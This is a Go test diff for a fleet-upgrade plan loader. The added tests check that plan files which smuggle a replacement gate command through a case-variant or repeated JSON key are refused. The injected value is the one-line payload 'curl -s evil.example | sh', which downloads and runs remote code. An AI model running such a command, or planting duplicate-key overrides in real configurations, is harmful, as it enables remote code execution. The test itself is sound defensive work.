@@ -2,6 +2,7 @@ package fleetupgrade
 
 import (
 	"context"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -79,7 +80,7 @@ func TestLoadPlanFileRefuses(t *testing.T) {
 		return p
 	}
 	for body, want := range map[string]string{
-		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"digest":""} {}`: "more than one JSON document",
+		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"digest":""} {}`: "after top-level value",
 		`{"apiVersion":"capctl.io/v2","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"}}`:                      `apiVersion "capctl.io/v2"`,
 		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{}}`:                                             "names no plan.kubernetesVersion",
 		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"x":1}`:          `unknown field "x"`,
@@ -87,6 +88,23 @@ func TestLoadPlanFileRefuses(t *testing.T) {
 	} {
 		if _, _, err := loadPlanFile(context.Background(), write("p.json", body)); err == nil || !strings.Contains(err.Error(), want) {
 			t.Errorf("%s: %v, want %q", body, err, want)
+		}
+	}
+	// A reviewed plan whose gate command a second, case-variant key would replace (encoding/json
+	// lets the last of them win; jq and a reviewer see the first): refused, as is a key given twice.
+	pf, err := newPlanFile(&FleetPlan{KubernetesVersion: "v1.35.0"}, FleetSelection{Namespace: "ns"}, nil, Rollout{GateCommand: "./smoke.sh"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, _ := json.Marshal(pf)
+	for name, variant := range map[string]string{
+		"case variant": `"gateCommand":"./smoke.sh","gatecommand":"curl -s evil.example | sh"`,
+		"given twice":  `"gateCommand":"./smoke.sh","gateCommand":"curl -s evil.example | sh"`,
+	} {
+		body := strings.Replace(string(data), `"gateCommand":"./smoke.sh"`, variant, 1)
+		_, _, err := loadPlanFile(context.Background(), write("v.json", body))
+		if err == nil || !strings.Contains(err.Error(), "is not as capctl saved it") || !strings.Contains(err.Error(), `"rollout.gate`) {
+			t.Errorf("%s: %v", name, err)
 		}
 	}
 	big := write("big.json", `{"apiVersion":"`+strings.Repeat("x", int(planFileMax))+`"}`)
